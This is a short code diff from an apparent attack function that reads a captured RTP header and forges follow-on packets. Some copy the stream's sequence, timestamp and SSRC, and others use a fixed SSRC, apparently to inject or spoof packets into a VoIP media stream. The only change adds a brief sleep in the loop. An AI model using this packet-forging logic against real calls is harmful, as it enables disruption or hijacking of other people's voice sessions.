@@ -159,6 +159,7 @@ def attack(wire, stranger):
     phone_end, border = (PHONE, source), (ACCESS, target)
     _, _, sequence, stamp, ssrc = struct.unpack("!BBHII", last[:12])
     for i in range(30):
+        time.sleep(0.002)  # what is lost in a socket's buffer proves nothing
         follow = struct.pack("!BBHII", 0x80, last[1] & 0x7F, sequence + 1 + i & 0xFFFF, stamp + 160 * (i + 1) & 0xFFFFFFFF, ssrc)
         other = struct.pack("!BBHII", 0x80, 0, i, i * 160, 0x66666666)
         for header in (follow, other):
